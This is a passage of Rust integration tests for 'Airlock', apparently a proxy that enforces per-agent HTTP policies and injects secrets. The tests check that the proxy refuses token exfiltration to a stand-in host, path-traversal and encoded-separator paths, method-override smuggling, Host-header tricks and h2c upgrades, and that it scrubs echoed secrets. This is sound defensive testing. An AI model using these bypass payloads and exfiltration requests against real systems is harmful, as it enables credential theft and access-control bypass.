    let cmd = format!(
        "curl -sS --http2 -o /dev/null -w '%{{http_code}} %{{size_upload}}' --data-binary @{f} {refused}"
    );
    let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
    assert_eq!(stdout(&out), "403 3145728", "{}", describe(&out));
    assert!(
        !up.seen().iter().any(|r| r.path == "/admin/upload"),
        "a refused upload reached the upstream"
    );
    // The connection outlives the refusal: the next request goes on it.
    let p = up.port;
    let keep_alive = format!(
        r#"
import http.client, ssl, os
conn = http.client.HTTPSConnection('api.example.test', {p}, context=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']), timeout=10)
conn.request('POST', '/admin/upload', body=open('{f}', 'rb').read())
r = conn.getresponse(); r.read(); print(r.status)
sock = conn.sock
conn.request('GET', '/hello')
r = conn.getresponse(); print(r.status, r.read().decode().strip(), 'same connection:', conn.sock is sock)
"#
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &keep_alive]);
    assert_eq!(
        stdout(&out),
        "403\n200 hello from upstream same connection: True\n",
        "{}",
        describe(&out)
    );
    // An upstream that answers before it reads, and so resets the rest of
    // the stream (HTTP/2) or the connection (HTTP/1.1, while Airlock is
    // still sending): the agent gets that answer, not the reset or a 502.
    // `/early-slow` writes its body after its head. curl stops sending once
    // it has an error's head, and ends its HTTP/2 stream short of the
    // length it declared, which the agent side's h2 resets as a protocol
    // error, dropping what of the answer it had not written: the body, had
    // Airlock sent the head alone. Such an answer is sent whole, once curl
    // has sent all it declared (`size_upload`): with nothing left to cut
    // short, curl has no reason to end the stream early.
    let early = format!("https://api.example.test:{}/early", up.port);
    for path in ["/early", "/early-slow"] {
        let url = format!("https://api.example.test:{}{path}", up.port);
        let cmd = format!(
            "curl -sS --http2 -w ' %{{http_code}} %{{size_upload}}' --data-binary @{f} {url}"
        );
        let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
        let text = describe(&out);
        assert!(out.status.success(), "{path}, over HTTP/2: {text}");
        assert_eq!(
            stdout(&out),
            "too large, said before reading\n 413 3145728",
            "{path}: {text}"
        );
    }
    // The reset races Airlock's writes: five uploads, so that one that
    // lost the race would show.
    let requests = format!(
        "import requests\nfor _ in range(5):\n    r = requests.post('{early}', data=open('{f}', 'rb')); print(r.status_code, r.text, end='')"
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &requests]);
    let text = describe(&out);
    assert!(
        out.status.success(),
        "answered early, over HTTP/1.1: {text}"
    );
    assert_eq!(
        stdout(&out),
        "413 too large, said before reading\n".repeat(5),
        "{text}"
    );
}

/// Once switched to h2c, a connection would carry HTTP/2 requests of any
/// method and path to the upstream, none of them seen by the policy: the
/// upgrade is dropped, and the request answered over HTTP/1.1.
#[test]
fn an_upgrade_to_h2c_is_dropped_and_the_request_goes_on_as_http1() {
    let Setup { d, up } = setup("");
    let cmd = format!(
        "curl -sS --http1.1 -H 'Connection: Upgrade, HTTP2-Settings' -H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA' -w '%{{http_version}} %{{http_code}}' https://other.example.test:{}/hello",
        up.port
    );
    let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    assert_eq!(stdout(&out), "hello from upstream\n1.1 200", "{text}");
    let seen = up.seen();
    let asked = seen
        .iter()
        .rfind(|r| r.path == "/hello")
        .expect("the request reached the upstream");
    for name in ["upgrade", "http2-settings", "connection"] {
        assert_eq!(asked.header(name), None, "{name} passed on: {asked:?}");
    }
}

#[test]
fn denials_get_the_403_json_and_placeholders_never_reach_other_hosts() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let py = format!(
        r#"
import os, requests, json
tok = os.environ['API_TOKEN']
def show(name, r):
    try:
        body = r.json()
    except Exception:
        body = {{}}
    print(name, r.status_code, body.get('error'), body.get('reason'), body.get('method'), body.get('path'), body.get('agent'))
show('path', requests.get('https://api.example.test:{p}/admin/users', timeout=10))
show('method', requests.delete('https://api.example.test:{p}/hello', timeout=10))
show('unlisted', requests.get('https://api.example.test:{p}/elsewhere', timeout=10))
show('exfil', requests.get('https://other.example.test:{p}/hello', headers={{'Authorization': 'Bearer ' + tok}}, timeout=10))
show('exfil-query', requests.get('https://other.example.test:{p}/hello?key=' + tok, timeout=10))
show('clean', requests.get('https://other.example.test:{p}/hello', timeout=10))
# Paths a server may resolve to /admin/users: an encoded separator, and a
# `;` parameter on a dot segment.
show('encoded-dots', requests.get('https://api.example.test:{p}/hello/..%2Fadmin/users', timeout=10))
show('param-dots', requests.get('https://api.example.test:{p}/hello/..;/admin/users', timeout=10))
# Paths some servers read as /admin/users without any dots: they decode
# an encoded separator, or drop a segment's parameters.
show('encoded-sep', requests.get('https://api.example.test:{p}/admin%2Fusers', timeout=10))
show('param-seg', requests.get('https://api.example.test:{p}/admin;x/users', timeout=10))
# A parameter that swallows the encoded dots for a server that cuts it
# first; nginx decodes first and resolves them.
show('param-encoded-dots', requests.get('https://api.example.test:{p}/hello;%2F..%2Fadmin/users', timeout=10))
# A POST that frameworks read as the DELETE the policy refuses.
show('override', requests.post('https://api.example.test:{p}/hello', headers={{'X-HTTP-Method-Override': 'DELETE', 'Authorization': 'Bearer ' + tok}}, timeout=10))
# The same in a query parameter, as Laravel and Symfony read it.
show('override-query', requests.post('https://api.example.test:{p}/hello?_method=DELETE', timeout=10))
# PHP reads `.` in a name as `_`: the same parameter to Laravel.
show('override-query-php', requests.post('https://api.example.test:{p}/hello?.method=DELETE', timeout=10))
# The answer names the claim, since POST itself is allowed.
print('claimed', requests.post('https://api.example.test:{p}/hello', headers={{'X-HTTP-Method-Override': 'delete'}}, timeout=10).json().get('claimed_method'))
import http.client, ssl
conn = http.client.HTTPSConnection('api.example.test', {p}, context=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']), timeout=10)
conn.putrequest('GET', '/hello', skip_host=True)
conn.putheader('Host', 'api.example.test:{p}')
conn.putheader('Host', 'other.example.test')
conn.putheader('Authorization', 'Bearer ' + tok)
conn.endheaders()
r = conn.getresponse()
print('two-hosts', r.status, json.loads(r.read()).get('reason'))
# The SNI's name, then more than a port: a front end that reads the
# authority otherwise may route on what follows.
conn = http.client.HTTPSConnection('api.example.test', {p}, context=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']), timeout=10)
conn.putrequest('GET', '/hello', skip_host=True)
conn.putheader('Host', 'api.example.test:@other.example.test')
conn.endheaders()
r = conn.getresponse()
print('host-userinfo', r.status, json.loads(r.read()).get('reason'))
r = requests.post('https://api.example.test:{p}/echo?text=' + tok, headers={{'Authorization': 'Bearer ' + tok}}, timeout=10)
show('planted', r)
print('detail', r.json().get('detail'))
"#
    );
    let before = up.seen().len();
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    assert!(out.status.success(), "{}", describe(&out));
    let lines: Vec<String> = stdout(&out).lines().map(str::to_owned).collect();
    assert_eq!(
        lines,
        [
            "path 403 denied deny_rule GET /admin/users web-bot",
            "method 403 denied method_not_allowed DELETE /hello web-bot",
            "unlisted 403 denied path_not_allowed GET /elsewhere web-bot",
            "exfil 403 denied placeholder_not_allowed GET /hello web-bot",
            &format!(
                "exfil-query 403 denied placeholder_not_allowed GET /hello?key={PLACEHOLDER} web-bot"
            ),
            "clean 200 None None None None None",
            "encoded-dots 403 denied deny_rule GET /hello/..%2Fadmin/users web-bot",
            "param-dots 403 denied deny_rule GET /hello/..;/admin/users web-bot",
            "encoded-sep 403 denied deny_rule GET /admin%2Fusers web-bot",
            "param-seg 403 denied deny_rule GET /admin;x/users web-bot",
            "param-encoded-dots 403 denied deny_rule GET /hello;%2F..%2Fadmin/users web-bot",
            "override 403 denied method_not_allowed POST /hello web-bot",
            "override-query 403 denied method_not_allowed POST /hello?_method=DELETE web-bot",
            "override-query-php 403 denied method_not_allowed POST /hello?.method=DELETE web-bot",
            "claimed delete",
            "two-hosts 403 host_mismatch",
            "host-userinfo 403 host_mismatch",
            // The right host, but a bearer token planted in a query
            // parameter (a message text the API would keep).
            &format!(
                "planted 403 denied placeholder_misplaced POST /echo?text={PLACEHOLDER} web-bot"
            ),
            "detail the placeholder of secret \"api-token\" stands in the query; a bearer secret is swapped only in the Authorization header (as written or inside a Basic value)",
        ],
        "{}",
        describe(&out)
    );
    // Only the clean request reached the upstream.
    let seen = up.seen();
    assert_eq!(seen.len(), before + 1, "{seen:?}");
    assert!(
        seen.iter()
            .all(|s| !s.path.contains(PLACEHOLDER) && s.header("authorization").is_none())
    );
    let rec = d.wait_audit("for the exfiltration attempt", |r| {
        r["reason"] == "placeholder_not_allowed"
    });
    assert_eq!(rec["action"], "deny");
    assert_eq!(rec["host"], "other.example.test");
    let rec = d.wait_audit("for the planted placeholder", |r| {
        r["reason"] == "placeholder_misplaced"
    });
    assert_eq!(rec["action"], "deny");
    assert_eq!(rec["host"], "api.example.test");
}

/// A POST whose body says `_method=DELETE` is a DELETE to Rails, Laravel
/// and Symfony. The policy allows POST and not DELETE: each body form is
/// refused with the 403 of a DELETE, over HTTP/1.1 and HTTP/2, however
/// large the body, gzipped or deflated, and the upstream never gets the
/// whole of it. A body that claims an allowed method, or none, goes
/// through whole.
#[test]
fn a_method_claimed_in_a_post_body_is_decided_as_that_method() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let url = format!("https://api.example.test:{p}/upload");
    let py = format!(
        r#"
import gzip, zlib, requests
def show(name, r):
    try:
        reason = r.json().get('reason')
    except Exception:
        reason = r.text.strip()
    print(name, r.status_code, reason)
url = '{url}'
show('form', requests.post(url, data={{'title': 'x', '_method': 'DELETE'}}, timeout=10))
show('form-php', requests.post(url, data='title=x&+.method=DEL%45TE', headers={{'Content-Type': 'application/x-www-form-urlencoded'}}, timeout=10))
show('no-type', requests.post(url, data=b'_method=DELETE', headers={{'Content-Type': ''}}, timeout=10))
show('json', requests.post(url, json={{'title': 'x', '_method': 'DELETE'}}, timeout=10))
show('multipart', requests.post(url, files={{'_method': (None, 'DELETE'), 'f': ('a.txt', b'data')}}, timeout=10))
show('big-json', requests.post(url, data=b'{{"pad": "' + b'x' * (3 << 20) + b'", "_method": "DELETE"}}', headers={{'Content-Type': 'application/json'}}, timeout=30))
show('chunked', requests.post(url, data=iter([b'title=x&_met', b'hod=DELETE']), headers={{'Content-Type': 'application/x-www-form-urlencoded'}}, timeout=10))
form = {{'Content-Type': 'application/x-www-form-urlencoded'}}
show('gzip', requests.post(url, data=gzip.compress(b'title=x&_method=DELETE'), headers=dict(form, **{{'Content-Encoding': 'gzip'}}), timeout=10))
show('deflate-json', requests.post(url, data=zlib.compress(b'{{"_method": "DELETE"}}'), headers={{'Content-Type': 'application/json', 'Content-Encoding': 'deflate'}}, timeout=10))
show('compress', requests.post(url, data=b'title=x', headers=dict(form, **{{'Content-Encoding': 'compress'}}), timeout=10))
show('allowed', requests.post(url, data={{'title': 'x', '_method': 'POST'}}, timeout=10))
show('big-clean', requests.post(url, json={{'pad': 'x' * (3 << 20)}}, timeout=30))
show('gzip-clean', requests.post(url, data=gzip.compress(b'title=x&_method=POST'), headers=dict(form, **{{'Content-Encoding': 'gzip'}}), timeout=10))
"#
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    let printed = stdout(&out);
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(
        &lines[..10],
        [
            "form 403 method_not_allowed",
            "form-php 403 method_not_allowed",
            "no-type 403 method_not_allowed",
            "json 403 method_not_allowed",
            "multipart 403 method_not_allowed",
            "big-json 403 method_not_allowed",
            "chunked 403 method_not_allowed",
            // Read as a server that inflates request bodies reads them.
            "gzip 403 method_not_allowed",
            "deflate-json 403 method_not_allowed",
            // A coding Airlock does not decode claims what no rule names.
            "compress 403 method_not_allowed",
        ],
        "{text}"
    );
    // `/upload` answers with the size and digest of what it read.
    assert!(lines[10].starts_with("allowed 200 20 "), "{text}");
    assert!(lines[11].starts_with("big-clean 200 3145739 "), "{text}");
    // A compressed body that claims an allowed method goes on as it came.
    assert!(lines[12].starts_with("gzip-clean 200 "), "{text}");
    // Over HTTP/2, the upstream leg an HTTP/2 agent's requests take.
    let h2 = format!("curl -sS --http2 -w ' %{{http_code}}' -d '_method=DELETE' {url}");
    let out = d.run_agent_dns("web-bot", &["sh", "-c", &h2]);
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    assert!(stdout(&out).ends_with(" 403"), "{text}");
    assert!(stdout(&out).contains("method_not_allowed"), "{text}");
    // Only the two bodies that passed reached the upstream whole.
    let whole: Vec<_> = up
        .seen()
        .into_iter()
        .filter(|r| r.path == "/upload" && r.body_whole.load(std::sync::atomic::Ordering::SeqCst))
        .collect();
    assert_eq!(whole.len(), 3, "{whole:?}");
    let rec = d.wait_audit("for the body's claim", |r| {
        r["reason"] == "method_not_allowed" && r["path"] == "/upload"
    });
    assert_eq!(rec["action"], "deny");
    assert_eq!(rec["method"], "POST");
    let rec = d.wait_audit("for the body in an unknown coding", |r| {
        r["claimed_methods"] == serde_json::json!(["(unreadable)"])
    });
    assert_eq!(rec["reason"], "method_not_allowed");
}

/// An agent's request head may be up to 128 KiB (hyper's read buffer
/// for an agent connection is capped there); a larger one gets a 431, and
/// nothing of it reaches the upstream.
#[test]
fn a_request_head_past_128_kib_is_refused() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let py = format!(
        r#"
import requests
for size in (100, 200):
    r = requests.get('https://api.example.test:{p}/hello', headers={{'X-Big': 'x' * (size << 10)}}, timeout=10)
    print(size, r.status_code)
"#
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    let text = describe(&out);
    assert!(out.status.success(), "{text}");
    assert_eq!(stdout(&out), "100 200\n200 431\n", "{text}");
    let big = up
        .seen()
        .iter()
        .filter_map(|r| r.header("x-big").map(str::len))
        .collect::<Vec<_>>();
    assert_eq!(big, [100 << 10], "{text}");
}

#[test]
fn an_echoed_secret_is_scrubbed_from_headers_and_body() {
    let Setup { d, up } = setup("");
    let url = format!("https://api.example.test:{}/echo", up.port);
    // -i prints the response headers too: the upstream echoes the
    // Authorization header back as x-echo-authorization.
    let out = web_bot_sh(
        &d,
        &format!("curl -sS -i -H \"Authorization: Bearer $API_TOKEN\" {url}"),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        text.to_ascii_lowercase()
            .contains(&format!("x-echo-authorization: bearer {PLACEHOLDER}").to_ascii_lowercase()),
        "{text}"
    );
    assert_no_secret("the echoed response", &text);
    assert_eq!(
        up.seen()
            .last()
            .and_then(|s| s.header("authorization").map(str::to_owned)),
        Some(format!("Bearer {SECRET}"))
    );

    // In Basic credentials the secret travels base64-encoded, and so is
    // echoed: the agent gets back the encoding of what it sent.
    use base64::Engine as _;
    let b64 = |text: String| base64::engine::general_purpose::STANDARD.encode(text);
    let out = web_bot_sh(&d, &format!("curl -sS -i -u \"bot:$API_TOKEN\" {url}"));
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        up.seen()
            .last()
            .and_then(|s| s.header("authorization").map(str::to_owned)),
        Some(format!("Basic {}", b64(format!("bot:{SECRET}"))))
    );
    assert!(
        !text.contains(&b64(format!("bot:{SECRET}"))),
        "the agent got the encoded secret back"
    );
    assert_eq!(
        text.matches(&b64(format!("bot:{PLACEHOLDER}"))).count(),
        2,
        "the echoed header and body: {text}"
    );

    // Kept by the upstream and read back later without any credential:
    // the answer is not tied to the Basic value Airlock sent, and the
    // user name is the agent's to choose.
    let log = format!("https://api.example.test:{}/log", up.port);
    let out = d.run_agent_dns("web-bot", &["curl", "-sS", &log]);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        !text.contains(&b64(format!("bot:{SECRET}"))),
        "the agent read the encoded secret back from the log"
    );
    let out = web_bot_sh(
        &d,
        &format!("curl -sS -u \"ab:$API_TOKEN\" {url} >/dev/null && curl -sS {log}"),
    );
    let text = stdout(&out);
    assert!(
        !text.contains(&b64(format!("ab:{SECRET}"))),
        "the agent read the encoded secret back from the log"
    );

    // A status line that quotes the request: the reason phrase is the
    // upstream's text, and not passed on.
    let reason = format!("https://api.example.test:{}/reason", up.port);
    let out = web_bot_sh(
        &d,
        &format!("curl -sS -i --http1.1 -H \"Authorization: Bearer $API_TOKEN\" {reason}"),
    );
    let text = stdout(&out);
    assert!(text.starts_with("HTTP/1.1 401 "), "{}", describe(&out));
    assert_no_secret("the status line", &text);
}

const ENC_RULE: &str = "  - host: svc.example.test:{port}\n    methods: [GET]\n    paths: [\"/echo\"]\n    credentials:\n      - secret: q-key\n      - secret: h-key\n      - secret: k-key\n";
/// A query secret with characters that travel percent-encoded, and a
/// header secret with characters JSON escapes.
const Q_SECRET: &str = "qv+9/Zx=Q&p%r~1";
const Q_PH: &str = "airlock-ph-q-key";
const H_SECRET: &str = r#"hv"9\Zx/Q+p<1>"#;
const H_PH: &str = "airlock-ph-h-key";

/// The forms of `secret` that an echo may carry: as it is, percent-encoded
/// (upper and lower case), and JSON-escaped.
fn echo_forms(secret: &str) -> Vec<String> {
    let percent = |upper: bool| {
        secret
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    (b as char).to_string()
                } else if upper {
                    format!("%{b:02X}")
                } else {
                    format!("%{b:02x}")
                }
            })
            .collect::<String>()
    };
    let json = serde_json::to_string(secret).expect("json");
    vec![
        secret.to_owned(),
        percent(true),
        percent(false),
        json[1..json.len() - 1].to_owned(),
    ]
}

/// An upstream that reflects the request the way web frameworks do: the
/// URL as it came (percent-encoded) and the headers inside a JSON body
/// (quotes and backslashes escaped). The agent must not get the secret
/// back in any of those forms.
#[test]
fn an_echoed_secret_is_scrubbed_in_its_percent_and_json_encodings() {
    let Setup { d, up } = setup(ENC_RULE);
    d.secret_set_kind("q-key", "query", Q_PH, Q_SECRET);
    d.secret_set_kind("h-key", "bearer", H_PH, H_SECRET);
    let url = format!("https://svc.example.test:{}/echo?key={Q_PH}", up.port);
    let out = web_bot_sh(
        &d,
        &format!("curl -sS -i -H 'Authorization: Bearer {H_PH}' '{url}'"),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    let got = up
        .seen()
        .last()
        .cloned()
        .expect("the upstream got the request");
    // The query credential went up percent-encoded, as Airlock writes it.
    assert_eq!(got.path, format!("/echo?key={}", echo_forms(Q_SECRET)[1]));
    assert_eq!(
        got.header("authorization"),
        Some(format!("Bearer {H_SECRET}").as_str())
    );
    for secret in [Q_SECRET, H_SECRET] {
        for form in echo_forms(secret) {
            assert!(!text.contains(&form), "the agent got {form:?} back: {text}");
        }
    }
    // What the agent sees instead: its own placeholders, in the path of
    // the body, and in the echoed header and the body's headers.
    assert!(text.contains(&format!("/echo?key={Q_PH}")), "{text}");
    assert_eq!(text.matches(&format!("Bearer {H_PH}")).count(), 2, "{text}");
    // The audit record names the path the agent sent, with its
    // placeholder, never the query the upstream got.
    let rec = d.wait_audit("for the echoed request", |r| {
        r["path"].as_str().is_some_and(|p| p.starts_with("/echo?"))
    });
    assert_eq!(rec["path"], format!("/echo?key={Q_PH}"));
    let audit = std::fs::read_to_string(&d.audit).unwrap_or_default();
    for (name, secret) in [("query", Q_SECRET), ("header", H_SECRET)] {
        for (i, form) in echo_forms(secret).iter().enumerate() {
            assert!(
                !audit.contains(form),
                "the audit log holds the {name} secret (form {i})"
            );
        }
    }
}

/// An upstream that keeps what it was sent (a request log, a request bin)
/// gives a secret back to a later request that carries none: every answer
/// from a host that a rule binds secrets to is scrubbed, and asked for
/// uncompressed.
#[test]
fn a_secret_an_upstream_kept_is_scrubbed_when_read_back_without_one() {
    let Setup { d, up } = setup("");
    let base = format!("https://api.example.test:{}", up.port);
    let out = web_bot_sh(
        &d,
        &format!("curl -sS --fail-with-body -H \"Authorization: Bearer $API_TOKEN\" {base}/hello"),
    );
    assert!(out.status.success(), "{}", describe(&out));
    let python = format!(
        "import requests\nr = requests.get('{base}/log', timeout=10)\nprint(r.status_code, r.text)\n"
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &python]);
    let text = stdout(&out);
    assert!(text.starts_with("200 "), "{}", describe(&out));
    let seen = up.seen();
    assert_eq!(seen.last().map(|s| s.path.as_str()), Some("/log"));
    assert_eq!(
        seen.last().and_then(|s| s.header("authorization")),
        None,
        "the read-back carried no credential"
    );
    assert_eq!(
        seen.last().and_then(|s| s.header("accept-encoding")),
        Some("identity")
    );
    assert!(text.contains(&format!("Bearer {PLACEHOLDER}")), "{text}");
    assert_no_secret("the request log read back", &text);

    // A HEAD answer has no body to scrub, and keeps the length it states,
    // over HTTP/2 and HTTP/1.1.
    for version in ["--http2", "--http1.1"] {
        let out = d.run_agent_dns(
            "web-bot",
            &["curl", "-sS", version, "-I", &format!("{base}/hello")],
        );
        let head = stdout(&out).to_ascii_lowercase();
        assert!(
            head.contains("content-length: 20"),
            "{version}: {}",
            describe(&out)
        );
    }

    // A host no rule binds a secret to is left as it is: compressed.
    let out = d.run_agent_dns(
        "web-bot",
        &[
            "curl",
            "-sS",
            "--compressed",
            "-o",
            "/dev/null",
            &format!("https://other.example.test:{}/hello", up.port),
        ],
    );
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        up.seen()
            .last()
            .and_then(|s| s.header("accept-encoding"))
            .is_some_and(|v| v.contains("gzip"))
    );
}

/// `script` run by `sh -c` as agent web-bot, which has API_TOKEN.
fn web_bot_sh(d: &Daemon, script: &str) -> std::process::Output {
    d.run_agent_dns("web-bot", &["sh", "-c", script])
}

/// `web-bot` sends its credential to the upstream, which keeps it in its
/// request log.
fn send_the_credential(d: &Daemon, base: &str) {
    let out = web_bot_sh(
        d,
        &format!("curl -sS --fail-with-body -H \"Authorization: Bearer $API_TOKEN\" {base}/hello"),
    );
    assert!(out.status.success(), "{}", redacted(&describe(&out)));
}

/// Waits (bounded) until the daemon has loaded a policy for `agent`.
fn wait_for_policy(d: &Daemon, agent: &str) {
    until_in_force(|| {
        let status = d.status().expect("status");
        let loaded = status["policies"]["loaded"]
            .as_array()
            .is_some_and(|all| all.iter().any(|p| p["agent"] == agent));
        (
            loaded,
            format!("the policy of {agent} was not loaded: {status}"),
        )
    });
}

/// A second agent, by hot reload: its policy allows GET of `path` on
/// api.example.test and nothing else.
fn add_agent_that_gets(d: &Daemon, up: &TlsUpstream, agent: &str, path: &str) {
    std::fs::write(
        d.policy_dir.join(format!("{agent}.yaml")),
        format!(
            "agent: {agent}\nrules:\n  - host: api.example.test:{}\n    methods: [GET]\n    paths: [\"{path}\"]\n",
            up.port
        ),
    )
    .expect("write the agent's policy");
    wait_for_policy(d, agent);
}

/// `agent` sends the placeholder as a bearer token to `url`, by curl,
/// which prints the status code it got.
fn send_placeholder(d: &Daemon, agent: &str, url: &str) -> std::process::Output {
    let header = format!("Authorization: Bearer {PLACEHOLDER}");
    let cmd = [&harness::CURL_STATUS[..], &["-H", &header, url]].concat();
    d.run_agent_dns(agent, &cmd)
}

/// The warnings about `agent`'s refused placeholders in the daemon's log,
/// each with the count it says it held back.
fn placeholder_warnings(d: &Daemon, agent: &str) -> Vec<u64> {
    d.log_text()
        .lines()
        .filter(|l| {
            l.contains("placeholder sent where no rule allows it")
                && l.contains(&format!("agent={agent} "))
        })
        .map(|l| {
            let held = l
                .split_once("held_back=")
                .unwrap_or_else(|| panic!("no held_back count: {l}"))
                .1;
            let digits: String = held.chars().take_while(char::is_ascii_digit).collect();
            digits.parse().expect("a count")
        })
        .collect()
}

/// An agent that sends placeholders where no rule allows them as fast as
/// it can is refused, and recorded, every time; the daemon's log gets one
/// warning a second from it, which counts the rest, and still warns at
/// once of another agent's attempt.
#[test]
fn a_flood_of_exfiltration_attempts_is_audited_whole_and_logged_once_a_second() {
    let Setup { d, up } = setup("");
    add_agent_that_gets(&d, &up, "side-bot", "/hello");
    let p = up.port;
    const FLOOD: usize = 300;
    let py = format!(
        r#"
import os, requests, time
tok = os.environ['API_TOKEN']
s = requests.Session()
def exfil():
    return s.get('https://other.example.test:{p}/hello', headers={{'Authorization': 'Bearer ' + tok}}, timeout=10).status_code
codes = {{exfil() for _ in range({FLOOD})}}
# Past the interval: this one is logged, with the count held back.
time.sleep(1.2)
codes.add(exfil())
print(sorted(codes))
"#
    );
    let started = Instant::now();
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(stdout(&out).trim(), "[403]", "{}", describe(&out));
    let side = send_placeholder(
        &d,
        "side-bot",
        &format!("https://api.example.test:{p}/hello"),
    );
    assert_eq!(stdout(&side), "403", "{}", describe(&side));
    let took = started.elapsed();

    let refused = |agent: &str| {
        d.audit_records()
            .iter()
            .filter(|r| r["agent"] == agent && r["reason"] == "placeholder_not_allowed")
            .count()
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while refused("web-bot") < FLOOD + 1 || refused("side-bot") < 1 {
        assert!(
            Instant::now() < deadline,
            "{} and {} records",
            refused("web-bot"),
            refused("side-bot")
        );
        std::thread::sleep(Duration::from_millis(25));
    }
    assert_eq!(refused("web-bot"), FLOOD + 1);
    assert_eq!(refused("side-bot"), 1);
    let flooder = placeholder_warnings(&d, "web-bot");
    assert!(
        flooder.len() as u64 <= took.as_secs() + 2,
        "{} warnings in {took:?}",
        flooder.len()
    );
    assert_eq!(
        flooder.len() as u64 + flooder.iter().sum::<u64>(),
        FLOOD as u64 + 1,
        "the warnings must count every attempt: {flooder:?}"
    );
    assert_eq!(placeholder_warnings(&d, "side-bot"), [0]);
    assert_no_secret("the daemon's log", &d.log_text());
}

/// A host that a deny rule refuses outright gets no certificate: the
/// connection is closed at the TLS hello, even when the agent knows the
/// address without asking Airlock's resolver, and the audit record names
/// the deny rule rather than a missing one.
#[test]
fn a_host_denied_outright_is_refused_in_the_deny_rules_name() {
    let Setup { d, up } = setup("");
    let p = up.port;
    std::fs::write(
        d.policy_dir.join("deny-bot.yaml"),
        format!(
            "agent: deny-bot\nrules:\n  - host: \"*.example.test:{p}\"\n    methods: [GET]\ndeny:\n  - host: other.example.test\n"
        ),
    )
    .expect("write the agent's policy");
    wait_for_policy(&d, "deny-bot");
    let out = d.run_agent_dns(
        "deny-bot",
        &[
            "sh",
            "-c",
            &format!(
                "curl -sS -o /dev/null -w '%{{http_code}}\\n' https://api.example.test:{p}/hello; \
                 curl -sS --resolve other.example.test:{p}:127.0.0.1 https://other.example.test:{p}/hello; \
                 echo \"exit $?\""
            ),
        ],
    );
    let text = stdout(&out);
    let mut lines = text.lines();
    assert_eq!(
        lines.next(),
        Some("200"),
        "the wildcard allows the others: {}",
        describe(&out)
    );
    assert_eq!(
        lines.next(),
        Some("exit 35"),
        "curl's TLS connect error: {}",
        describe(&out)
    );
    assert!(
        !up.seen().iter().any(|s| s
            .authority
            .as_deref()
            .is_some_and(|a| a.contains("other.example.test"))
            || s.header("host")
                .is_some_and(|h| h.contains("other.example.test"))),
        "the denied host was reached"
    );
    let rec = d.wait_audit("for the refused connection", |r| {
        r["agent"] == "deny-bot" && r["host"] == "other.example.test"
    });
    assert_eq!(rec["action"], "deny", "{rec}");
    assert_eq!(rec["reason"], "deny_rule", "{rec}");
    assert_eq!(rec["rule"], "deny[0] other.example.test", "{rec}");
}

/// Agents never share an upstream connection, over HTTP/2 as over
/// HTTP/1.1: one agent's streams must not use up the connection another's
/// requests ride on, nor end them with a GOAWAY they provoke. An agent's
/// own requests do share one (so that the test below can fail).
#[test]
fn agents_never_share_an_upstream_connection_over_http2() {
    let Setup { d, up } = setup("");
    add_agent_that_gets(&d, &up, "peer-bot", "/hello");
    let curl = format!(
        "curl -sS --fail-with-body --http2 https://api.example.test:{}/hello",
        up.port
    );
    let mut peers = Vec::new();
    for agent in ["web-bot", "web-bot", "peer-bot", "peer-bot", "web-bot"] {
        let before = up.seen().len();
        let out = d.run_agent_dns(agent, &["sh", "-c", &curl]);
        assert!(out.status.success(), "{agent}: {}", describe(&out));
        let seen = up.seen();
        assert_eq!(seen.len(), before + 1, "{agent}: upstream request count");
        let last = seen.last().expect("seen");
        assert_eq!(last.version, "HTTP/2.0", "{agent}: HTTP version upstream");
        peers.push((agent, last.peer));
    }
    let on = |agent: &str| -> std::collections::BTreeSet<std::net::SocketAddr> {
        peers
            .iter()
            .filter(|(a, _)| *a == agent)
            .map(|(_, p)| *p)
            .collect()
    };
    let (web, peer) = (on("web-bot"), on("peer-bot"));
    assert_eq!(
        web.len(),
        1,
        "an agent's requests were not pooled: {peers:?}"
    );
    assert_eq!(
        peer.len(),
        1,
        "an agent's requests were not pooled: {peers:?}"
    );
    assert!(
        web.is_disjoint(&peer),
        "two agents' requests went on one upstream connection: {peers:?}"
    );
}

/// An upstream that keeps what one agent sent gives it to whichever agent
/// reads it back: the answers of a host that any policy binds secrets to
/// are scrubbed for every agent, also one whose own policy binds it none.
/// The reader's policy comes by hot reload, after the secret was sent.
#[test]
fn a_secret_one_agent_sent_is_scrubbed_when_another_agent_reads_it_back() {
    let Setup { d, up } = setup("");
    let base = format!("https://api.example.test:{}", up.port);
    send_the_credential(&d, &base);
    add_agent_that_gets(&d, &up, "log-reader", "/log");

    let node = format!(
        "fetch('{base}/log').then(async r => console.log(r.status, await r.text()), e => {{ console.log('error', e.cause || e); process.exit(1) }})"
    );
    let out = d.run_agent_dns("log-reader", &["node", "-e", &node]);
    let text = stdout(&out);
    assert_no_secret("the log another agent read back", &text);
    assert!(text.starts_with("200 "), "{}", redacted(&describe(&out)));
    let read = the_log_read_back(&up, &text);
    assert_eq!(read.header("authorization"), None);
}

/// An upstream keeps what it was sent after the rule that sent it is
